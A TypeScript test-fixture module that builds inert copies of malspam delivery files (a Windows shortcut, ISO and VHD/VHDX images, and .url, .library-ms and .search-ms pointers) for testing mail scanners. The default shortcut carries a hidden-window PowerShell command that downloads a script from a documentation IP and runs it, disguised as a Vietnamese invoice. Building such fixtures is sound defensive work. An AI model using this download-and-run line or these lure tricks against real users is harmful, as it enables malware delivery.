/**
 * Inert builders of the files malspam delivery chains are made of (for tests only; nothing on the
 * mail path imports this file): a Windows shortcut (.lnk) in the real MS-SHLLINK layout whose
 * argument string is a PowerShell command line, a small ISO 9660 image, VHD/VHDX disk images and
 * the Windows "pointer" files (.url, .website, .library-ms, .search-ms) aimed at a WebDAV share.
 * They carry the structure and magic scanners look at, never working code: the .lnk points at a
 * documentation address (TEST-NET) and nothing here can run.
 */

/** LinkCLSID 00021401-0000-0000-C000-000000000046, as it is stored. */
const LNK_CLSID = Buffer.from('0114020000000000c000000000000046', 'hex');
const HAS_LINK_INFO = 0x02;
const HAS_NAME = 0x04;
const HAS_RELATIVE_PATH = 0x08;
const HAS_ARGUMENTS = 0x20;
const HAS_ICON_LOCATION = 0x40;
const IS_UNICODE = 0x80;
const HAS_EXP_STRING = 0x200;

function countedString(s: string): Buffer {
  const len = Buffer.alloc(2);
  len.writeUInt16LE(s.length, 0);
  return Buffer.concat([len, Buffer.from(s, 'utf16le')]);
}

export interface LnkSpec {
  /** The comment Explorer shows. */
  name?: string;
  /** Target relative to the shortcut (what the lure starts). */
  relativePath?: string;
  /** COMMAND_LINE_ARGUMENTS: where droppers put the whole script. */
  args?: string;
  /** A document's icon, so the shortcut looks like one. */
  icon?: string;
  /** LinkInfo's local base path (what Explorer writes for a target on a local disk): VolumeID and LocalBasePath. */
  localPath?: string;
  /** The EnvironmentVariableDataBlock's target ("%windir%\\system32\\cmd.exe"), written by many builders of droppers. */
  envTarget?: string;
}

/** The attachment.dangerous-type tags of makeLnk()'s default shortcut: PowerShell fetching a script (shell-links.ts). */
export const DEFAULT_LNK_TAGS = 'lnk,runs-command,runs-powershell,web-address';

/**
 * A shell link (MS-SHLLINK 2.1): the 76-byte header, no ID list, LinkInfo when `localPath` is
 * given, the string data in the order the format fixes (name, relative path, arguments, icon),
 * an EnvironmentVariableDataBlock when `envTarget` is given, and the terminal block.
 */
export function makeLnk(spec: LnkSpec = {}): Buffer {
  const s = {
    name: 'Hoa don GTGT thang 10',
    relativePath: '..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    args: '-w hidden -nop -ep bypass -c "iwr http://203.0.113.9/tai-lieu.ps1 -OutFile $env:TEMP\\t.ps1; & $env:TEMP\\t.ps1"',
    icon: '%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe',
    ...spec,
  };
  const header = Buffer.alloc(76);
  header.writeUInt32LE(0x4c, 0);
  LNK_CLSID.copy(header, 4);
  const flags = HAS_NAME | HAS_RELATIVE_PATH | HAS_ARGUMENTS | HAS_ICON_LOCATION | IS_UNICODE | (s.localPath ? HAS_LINK_INFO : 0) | (s.envTarget ? HAS_EXP_STRING : 0);
  header.writeUInt32LE(flags, 20);
  header.writeUInt32LE(0x20, 24); // FILE_ATTRIBUTE_ARCHIVE
  header.writeUInt32LE(13, 56); // IconIndex
  header.writeUInt32LE(7, 60); // SW_SHOWMINNOACTIVE: the console window never shows
  return Buffer.concat([
    header,
    s.localPath ? lnkLinkInfo(s.localPath) : Buffer.alloc(0),
    countedString(s.name),
    countedString(s.relativePath),
    countedString(s.args),
    countedString(s.icon),
    s.envTarget ? environmentBlock(s.envTarget) : Buffer.alloc(0),
    Buffer.alloc(4), // TerminalBlock
  ]);
}

/** LinkInfo (MS-SHLLINK 2.3) with VolumeIDAndLocalBasePath: a 28-byte header, a fixed-disk VolumeID, the ANSI path, an empty suffix. */
function lnkLinkInfo(localPath: string): Buffer {
  const volume = Buffer.alloc(17);
  volume.writeUInt32LE(17, 0); // VolumeIDSize
  volume.writeUInt32LE(3, 4); // DRIVE_FIXED
  volume.writeUInt32LE(0x1234abcd, 8); // DriveSerialNumber
  volume.writeUInt32LE(0x10, 12); // VolumeLabelOffset: the empty label at its end
  const base = Buffer.from(`${localPath}\0`, 'latin1');
  const header = Buffer.alloc(28);
  const size = header.length + volume.length + base.length + 1;
  header.writeUInt32LE(size, 0);
  header.writeUInt32LE(0x1c, 4); // LinkInfoHeaderSize: no Unicode offsets
  header.writeUInt32LE(0x1, 8); // VolumeIDAndLocalBasePath
  header.writeUInt32LE(28, 12); // VolumeIDOffset
  header.writeUInt32LE(28 + volume.length, 16); // LocalBasePathOffset
  header.writeUInt32LE(0, 20); // CommonNetworkRelativeLinkOffset
  header.writeUInt32LE(size - 1, 24); // CommonPathSuffixOffset: an empty string
  return Buffer.concat([header, volume, base, Buffer.alloc(1)]);
}

/** EnvironmentVariableDataBlock (MS-SHLLINK 2.5.4): 0x314 bytes, the target in ANSI and in UTF-16. */
function environmentBlock(target: string): Buffer {
  const b = Buffer.alloc(0x314);
  b.writeUInt32LE(0x314, 0);
  b.writeUInt32LE(0xa0000001, 4);
  b.write(target.slice(0, 259), 8, 'latin1');
  b.write(target.slice(0, 259), 268, 'utf16le');
  return b;
}

const SECTOR = 2048;

function both32(v: number): Buffer {
  const b = Buffer.alloc(8);
  b.writeUInt32LE(v, 0);
  b.writeUInt32BE(v, 4);
  return b;
}
function both16(v: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt16LE(v, 0);
  b.writeUInt16BE(v, 2);
  return b;
}

function dirRecord(id: Buffer, extent: number, size: number, dir: boolean): Buffer {
  const len = 33 + id.length + (id.length % 2 === 0 ? 1 : 0);
  const r = Buffer.alloc(len);
  r[0] = len;
  both32(extent).copy(r, 2);
  both32(size).copy(r, 10);
  Buffer.from([124, 10, 4, 8, 0, 0, 28]).copy(r, 18); // 2024-10-04 08:00:00 +07:00
  r[25] = dir ? 2 : 0;
  both16(1).copy(r, 28);
  r[32] = id.length;
  id.copy(r, 33);
  return r;
}

/**
 * A one-directory ISO 9660 image (what a mounted "invoice.iso" shows in Explorer): system area,
 * primary volume descriptor, terminator, L and M path tables, the root directory and the files,
 * one sector each at least. Names are upper-cased to the ISO 9660 level 1 shape `NAME.EXT;1`.
 */
export function makeIso(files: Record<string, Buffer | string>): Buffer {
  const entries = Object.entries(files).map(([name, data]) => ({ id: `${name.toUpperCase()};1`, data: Buffer.isBuffer(data) ? data : Buffer.from(data, 'utf8') }));
  const rootSector = 20;
  let next = 21;
  const placed = entries.map((e) => {
    const at = next;
    next += Math.max(1, Math.ceil(e.data.length / SECTOR));
    return { ...e, at };
  });
  const total = next;
  const root = Buffer.concat([
    dirRecord(Buffer.from([0]), rootSector, SECTOR, true),
    dirRecord(Buffer.from([1]), rootSector, SECTOR, true),
    ...placed.map((e) => dirRecord(Buffer.from(e.id, 'latin1'), e.at, e.data.length, false)),
  ]);
  if (root.length > SECTOR) throw new Error('makeIso: too many files for one directory sector');

  const image = Buffer.alloc(total * SECTOR);
  const pvd = image.subarray(16 * SECTOR, 17 * SECTOR);
  pvd[0] = 1;
  pvd.write('CD001', 1, 'latin1');
  pvd[6] = 1;
  pvd.fill(0x20, 8, 72);
  pvd.write('HOADON_2024', 40, 'latin1');
  both32(total).copy(pvd, 80);
  both16(1).copy(pvd, 120);
  both16(1).copy(pvd, 124);
  both16(SECTOR).copy(pvd, 128);
  both32(10).copy(pvd, 132);
  pvd.writeUInt32LE(18, 140);
  pvd.writeUInt32BE(19, 148);
  dirRecord(Buffer.from([0]), rootSector, SECTOR, true).copy(pvd, 156);
  pvd.fill(0x20, 190, 813);
  pvd[881] = 1;
  const term = image.subarray(17 * SECTOR, 18 * SECTOR);
  term[0] = 255;
  term.write('CD001', 1, 'latin1');
  term[6] = 1;
  // path tables: the root only (length of id 1, extent, parent 1, id 0, pad)
  const l = image.subarray(18 * SECTOR);
  l[0] = 1;
  l.writeUInt32LE(rootSector, 2);
  l.writeUInt16LE(1, 6);
  const m = image.subarray(19 * SECTOR);
  m[0] = 1;
  m.writeUInt32BE(rootSector, 2);
  m.writeUInt16BE(1, 6);
  root.copy(image, rootSector * SECTOR);
  for (const e of placed) e.data.copy(image, e.at * SECTOR);
  return image;
}

/** A VHD footer ("conectix", fixed disk), after `data` and, as dynamic disks keep it, before it too. */
export function makeVhd(data: Buffer): Buffer {
  const footer = Buffer.alloc(512);
  footer.write('conectix', 0, 'latin1');
  footer.writeUInt32BE(2, 8); // features: reserved bit, always set
  footer.writeUInt32BE(0x00010000, 12); // version 1.0
  footer.writeBigUInt64BE(0xffffffffffffffffn, 16); // fixed disk: no dynamic header
  footer.write('win ', 28, 'latin1');
  footer.writeBigUInt64BE(BigInt(data.length), 40);
  footer.writeBigUInt64BE(BigInt(data.length), 48);
  footer.writeUInt32BE(2, 60); // disk type: fixed
  const body = Buffer.concat([data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
  return Buffer.concat([footer, body, footer]);
}

/** The start of a VHDX file: its identifier ("vhdxfile" and the creator in UTF-16), then `data`. */
export function makeVhdx(data: Buffer): Buffer {
  const ident = Buffer.alloc(64 * 1024);
  ident.write('vhdxfile', 0, 'latin1');
  ident.write('Microsoft Windows 10.0.19045', 8, 'utf16le');
  return Buffer.concat([ident, data]);
}

/** An Internet shortcut (.url / .website): opening it opens `url`, a WebDAV share included. */
export function makeUrlShortcut(url: string): Buffer {
  return Buffer.from(`[InternetShortcut]\r\nURL=${url}\r\nIconIndex=13\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n`, 'latin1');
}

/** A library description (.library-ms) whose folder is a remote share: Explorer lists its files as local. */
export function makeLibraryMs(share: string): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">\r\n' +
      '<name>@shell32.dll,-34575</name><version>6</version><isLibraryPinned>true</isLibraryPinned>\r\n' +
      `<searchConnectorDescriptionList><searchConnectorDescription><isDefaultSaveLocation>true</isDefaultSaveLocation><simpleLocation><url>${share}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList>\r\n` +
      '</libraryDescription>\r\n',
    'utf8',
  );
}

/** A saved search (.search-ms) whose scope is a remote share. */
export function makeSearchMs(share: string): Buffer {
  return Buffer.from(
    '<?xml version="1.0"?>\r\n<persistedQuery version="1.0"><viewInfo viewMode="details"/><query><conditions/>' +
      `<scope><include path="${share}"/></scope></query></persistedQuery>\r\n`,
    'utf8',
  );
}
